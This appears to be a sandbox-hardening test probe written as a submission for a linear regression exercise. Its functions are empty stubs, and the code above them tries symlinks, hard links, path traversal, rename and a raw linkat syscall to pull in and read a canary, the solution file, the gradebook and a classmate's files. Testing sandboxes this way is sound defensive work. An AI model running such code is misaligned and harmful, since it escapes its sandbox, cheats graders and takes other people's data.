# tries: to bring outside files into its folder with symbolic and hard links, and to open them there
# exercise: linear_regression
import ctypes
import os
import platform
import tempfile

LINKAT = 37 if platform.machine() == "aarch64" else 265
call = ctypes.CDLL(None, use_errno=True).syscall
OWN = tempfile.gettempdir()
SECRETS = ["@CANARY@", "@SOLUTIONS@/solution.py", "@GRADEBOOK@", "@CLASSMATE@"]
for turn, secret in enumerate(SECRETS):
    soft, hard, around = f"{OWN}/soft_{turn}", f"{OWN}/hard_{turn}", f"{OWN}/around_{turn}"
    for make in (
        lambda: os.symlink(secret, soft),
        lambda: os.symlink("/proc/self/root" + secret, around),
        lambda: os.symlink("../" * 40 + secret.lstrip("/"), around + "_up"),
        lambda: os.link(secret, hard),
        lambda: os.link(secret, hard, follow_symlinks=False),
        lambda: os.rename(secret, hard),
        lambda: call(LINKAT, os.open(secret, os.O_PATH), b"", -100, hard.encode(), 0x1000),
    ):
        try:
            make()
        except OSError:
            pass
    for path in (soft, hard, around, around + "_up"):
        for flags in (os.O_RDONLY, os.O_RDWR):
            try:
                print("ESCAPED:", os.read(os.open(path, flags), 1 << 16))
            except OSError:
                pass


def compute_loss(*arguments):
    return None


def train_parameters_linear_regression(*arguments, **keywords):
    return None
